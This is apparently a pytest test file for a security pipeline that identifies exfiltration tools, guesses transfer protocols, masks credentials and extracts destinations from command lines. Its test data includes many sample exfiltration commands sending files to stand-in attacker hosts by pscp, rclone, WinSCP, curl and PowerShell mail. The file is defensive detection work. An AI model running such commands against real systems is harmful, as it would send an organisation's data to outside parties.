"""Tool identity, protocol guess, credential masking and the destination a command line names."""
import pytest

from app.pipeline.tools import (MASK, command_line_actions, command_line_destination, find_credentials,
                                guess_protocol, mask, tool_identity)
from scenarios import benign, malicious
from scenarios.script import Run

# The secrets the generator puts on its command lines (scripts/scenarios/malicious.py, benign.py).
SECRETS = ("Xp9vR2qLm7", "Summer2026!", "Dr0pP4ss", "Atomic-Red-T3am", "Wq8zT3", "%ARTIFACT_TOKEN%")


def scenario_command_lines():
    lines = []
    for spec in (*malicious.SPECS, *benign.SPECS):
        for step in spec.steps:
            if isinstance(step, Run) and step.cmd not in lines:
                lines.append(step.cmd)
    return lines


# -- tool identity -------------------------------------------------------------------------------------
@pytest.mark.parametrize("image, original, name, renamed", [
    (r"C:\Tools\rclone.exe", "rclone.exe", "rclone", False),
    ("rclone.exe", None, "rclone", False),
    (r"C:\ProgramData\Microsoft\svchost-helper.exe", "rclone.exe", "rclone", True),
    ("svchost-helper.exe", "RCLONE.EXE", "rclone", True),
    (r"C:\Users\Public\pscp.exe", "PSCP", "pscp", False),           # PE name without extension
    (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "PowerShell.EXE", "powershell", False),
    ("/usr/bin/curl", None, "curl", False),
    (None, "rclone.exe", "rclone", False),
])
def test_tool_identity(image, original, name, renamed):
    tool = tool_identity(image, original)
    assert (tool["name"], tool["renamed"]) == (name, renamed)
    assert tool["image"] == image and tool["original_file_name"] == original


# -- protocol --------------------------------------------------------------------------------------------
@pytest.mark.parametrize("port, command_line, tool, protocol", [
    (22, None, "winscp", "sftp"),
    (22, None, "pscp", "scp"),
    (22, "pscp.exe -pw x -P 22 f exfil@198.51.100.1:/drop/", "pscp", "scp"),
    (443, None, "curl", "https"),
    (8443, None, None, "https"),
    (465, None, None, "smtps"),
    (587, None, "powershell", "smtps"),
    (990, None, None, "ftps"),
    (21, "rclone copy x ftpserver: --ftp-no-check-certificate", "rclone", "ftps"),
    (21, None, "rclone", "unknown"),                       # plain FTP port, nothing says TLS
    (None, "rclone copy a :sftp:/up --sftp-host 192.0.2.1", "rclone", "sftp"),
    (None, "curl -T f https://transfer.sh/f", "curl", "https"),
    (None, "curl -T f ftps://files.example.net/", "curl", "ftps"),
    (None, "$s = New-Object Net.Mail.SmtpClient('x', 587); $s.EnableSsl = $true", "powershell", "smtps"),
    (None, "Send-MailMessage -SmtpServer x -UseSsl", "powershell", "smtps"),
    (None, "rclone copy a webdav: --webdav-url https://dav.example.net", "rclone", "webdav"),
    (None, "WinSCP.exe /command \"open sftp://u@h/\" \"put x\"", "winscp", "sftp"),
    (None, "scp.exe f adversary@adversary-host:/tmp/", "scp", "scp"),
    (None, "notepad.exe x.txt", "notepad", "unknown"),
])
def test_protocol(port, command_line, tool, protocol):
    assert guess_protocol(port, command_line, tool) == protocol


# -- credentials -----------------------------------------------------------------------------------------
def test_no_secret_of_the_scenarios_survives_masking():
    lines = scenario_command_lines()
    assert any(s in line for s in SECRETS for line in lines)      # the test data does hold secrets
    for line in lines:
        found = find_credentials(line)
        for secret in SECRETS:
            assert secret not in found.masked_command_line, line
            assert all(secret not in c["masked"] for c in found.found), line
        assert "-pw atomic" not in found.masked_command_line
        if any(secret in line for secret in SECRETS) or " -pw " in line:
            assert found.found and MASK in found.masked_command_line, line


@pytest.mark.parametrize("command_line, kind, masked", [
    ("pscp.exe -pw Summer2026! -P 22 f exfil@198.51.100.1:/d/", "-pw", "-pw ********"),
    ("rclone copy a :sftp:/u --sftp-host h --sftp-pass Xp9vR2qLm7 --sftp-port 22", "--sftp-pass", "--sftp-pass ********"),
    ("rclone copy a ftp: --ftp-pass=secret1", "--ftp-pass", "--ftp-pass=********"),
    ("rclone.exe config create T1567002 mega user atomic@example.com pass Atomic-Red-T3am", "pass", "pass ********"),
    ("rclone config create r sftp host h pass=hunter2", "pass", "pass=********"),
    ('WinSCP.exe /command "open sftp://drop:Wq8zT3@drop.example.net/"', "password in URL", "sftp://drop:********"),
    ("curl.exe -u svc_build:%ARTIFACT_TOKEN% -T f https://a.example.com/", "-u user:password", "-u svc_build:********"),
    ("$c = New-Object System.Net.NetworkCredential('drop@x.com', 'Dr0pP4ss')", "NetworkCredential",
     "NetworkCredential('drop@x.com', '********'"),
    ("Send-MailMessage -To a@b -UseSsl -Credential $cred", "-Credential", "-Credential ********"),
    ("$p = ConvertTo-SecureString 'S3cret!' -AsPlainText -Force", "ConvertTo-SecureString -AsPlainText",
     "ConvertTo-SecureString '********'"),
    ("wget --password=pw123 https://x.example.com/", "--password", "--password=********"),
    ('psftp.exe -pw "two words" host', "-pw", "-pw ********"),
])
def test_credential_kinds(command_line, kind, masked):
    found = find_credentials(command_line)
    assert [c["kind"] for c in found.found] == [kind]
    assert found.found[0]["masked"] == masked
    assert MASK in found.masked_command_line


def test_masking_keeps_everything_else_and_is_idempotent():
    line = "pscp.exe -pw Summer2026! -P 22 f exfil@198.51.100.1:/d/"
    once = mask(line)
    assert once == "pscp.exe -pw ******** -P 22 f exfil@198.51.100.1:/d/"
    assert mask(once) == once


@pytest.mark.parametrize("command_line", [
    "curl.exe -u alice -T f https://a.example.com/",           # no password: curl prompts for it
    "rclone copy a b --transfers 4 --ftp-no-check-certificate",
    "notepad.exe passwords.txt",
    "echo pass the salt",                                        # 'pass' outside `rclone config create`
    None, "",
])
def test_no_credentials(command_line):
    assert find_credentials(command_line).found == []
    assert mask(command_line) == command_line


# -- destination on the command line and what the command does ----------------------------------------
@pytest.mark.parametrize("command_line, host, port", [
    ("pscp.exe -pw x -P 22 f exfil@198.51.100.1:/home/exfil/drop/", "198.51.100.1", 22),
    ("rclone copy a :sftp:/u --sftp-host 192.0.2.1 --sftp-port 22", "192.0.2.1", 22),
    ("curl.exe -F \"file=@a\" https://file.io/", "file.io", None),
    ("curl.exe -T f https://transfer.sh:8443/f", "transfer.sh", 8443),
    ('WinSCP.exe /command "open sftp://drop:pw@drop.adversary-sftp.net/ -hostkey=*"', "drop.adversary-sftp.net", None),
    ("New-Object System.Net.Mail.SmtpClient('smtp.attacker-controlled.com', 587)", "smtp.attacker-controlled.com", 587),
    ("Send-MailMessage -SmtpServer smtp.mail-relay-x.net -Port 587 -UseSsl", "smtp.mail-relay-x.net", 587),
    ("sftp  adversary@adversary-host:/tmp", "adversary-host", None),
    ("scp f user@[2001:db8::5]:/tmp/", "2001:db8::5", None),
    ("rclone copy a mega_remote:exfil -v", None, None),
    ("Send-MailMessage -From a@example-corp.com -To b@x.net", None, None),   # mail addresses are not remotes
])
def test_command_line_destination(command_line, host, port):
    assert command_line_destination(command_line) == (host, port)


def test_actions():
    assert command_line_actions("curl.exe -s -d @C:\\t\\hr.csv https://x.example.org/in", "curl") == ["curl upload option -d @"]
    assert command_line_actions("curl.exe -o out.zip https://x/", "curl") == []
    assert command_line_actions("rclone.exe config create r mega user u pass p", "rclone") == [
        "rclone remote configured on the command line"]
    assert "WebClient UploadFile upload" in command_line_actions("$w.UploadFile('https://x/u', 'f')", "powershell")


# -- the substring pre-checks of the protocol hints and actions ------------------------------------------
from hypothesis import given, settings, strategies as st  # noqa: E402

from app.pipeline import tools as tools_module  # noqa: E402
from app.pipeline.precheck import ascii_lower, may_match  # noqa: E402

# Pieces of the patterns' words in several cases, the letters (?i) folds from outside ASCII, and separators.
_PIECES = ["sftp", "SFTP", "ſftp", "scp", "Scp", "https://", "HTTPS://", "dav", "DAV", "webdav://", "ftps://",
           "--ftp-", "--ftp-ssl", "--ssl-reqd", "EnableSsl = $true", "-UseSsl", "smtps://", "K", "ſ", "İ", "ı",
           ".UploadFile(", ".uploadstring (", "Invoke-WebRequest", "irm", "IWR", " -InFile ", "SmtpClient",
           "send-mailmessage", "open ", ":", "/", " ", "\t", "x", "é", "pscp.exe ", "copy", "put "]


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(_PIECES), max_size=12).map("".join))
def test_a_pattern_skipped_by_its_precheck_could_not_have_matched(text):
    """The words a protocol hint or an action pattern needs are only a shortcut: whenever the pattern matches,
    its pre-check lets it run (non-ASCII text, where (?i) folds letters lower() keeps, is always searched)."""
    lowered = ascii_lower(text)
    for _, needles, pattern in tools_module._PROTOCOL_HINTS:
        if pattern.search(text):
            assert may_match(needles, lowered), (pattern.pattern, text)
    for _, pattern, _, _, needles in tools_module._ACTION_PATTERNS:
        if pattern.search(text):
            assert may_match(needles, lowered), (pattern.pattern, text)


def test_protocol_hints_outside_ascii_are_still_read():
    # U+017F LATIN SMALL LETTER LONG S matches "s" under (?i): the command line is not ASCII, so it is searched.
    assert guess_protocol(None, "tool.exe ſftp://host/x", None) == "sftp"
    assert command_line_actions("$c.UploadFile('ſ', 'x')", "powershell") == ["WebClient UploadFile upload"]


_DESTINATION_PIECES = ["https://", "HTTPS://", "sftp://", "ſftp://", "webdavs://", "xwebdavs://", "://", "@", "u@",
                       "user@host", ":", "/", "host.example", "[2001:db8::5]", "198.51.100.7", ":8443", " ", "\"", "'",
                       "--sftp-host ", "--SFTP-URL=", "SmtpClient('", "ſmtpClient(\"", "-SmtpServer ", "ssh ",
                       "sftp.exe ", "SSH\"", " -P 22", " -Port 2222", "--ftp-port=21", "-p", "K", "é", "x", "."]


def _destination_searching_everything(command_line):
    """command_line_destination without its shortcuts: every pattern searched over the whole text."""
    command_line = command_line[:tools_module.MAX_TEXT_CHARS]
    for pattern, _, _ in tools_module._DESTINATION_PATTERNS + ((None, None, None),):
        if pattern is None:
            program = tools_module._SSH_PROGRAM.search(command_line)
            match = tools_module._SSH_REMOTE.search(command_line, program.end()) if program else None
        else:
            match = pattern.search(command_line)
        if match:
            host = match.group(1).strip("[]").rstrip(".")
            port = match.group(2) if match.re.groups >= 2 else None
            if port is None:
                option = tools_module._PORT_OPTIONS.search(command_line)
                port = option.group(1) if option else None
            return host, (int(port) if port and 0 < int(port) < 65536 else None)
    return None, None


@settings(max_examples=600, deadline=None)
@given(st.lists(st.sampled_from(_DESTINATION_PIECES), max_size=14).map("".join))
def test_the_destination_shortcuts_change_no_answer(text):
    """The remote a command line names is the same with the pre-checks (a needed character or word absent, the
    URL pattern searched from the first "://") as with every pattern searched over the whole text, whatever the
    case and with letters outside ASCII that (?i) reads as ASCII ones."""
    assert command_line_destination(text) == _destination_searching_everything(text)
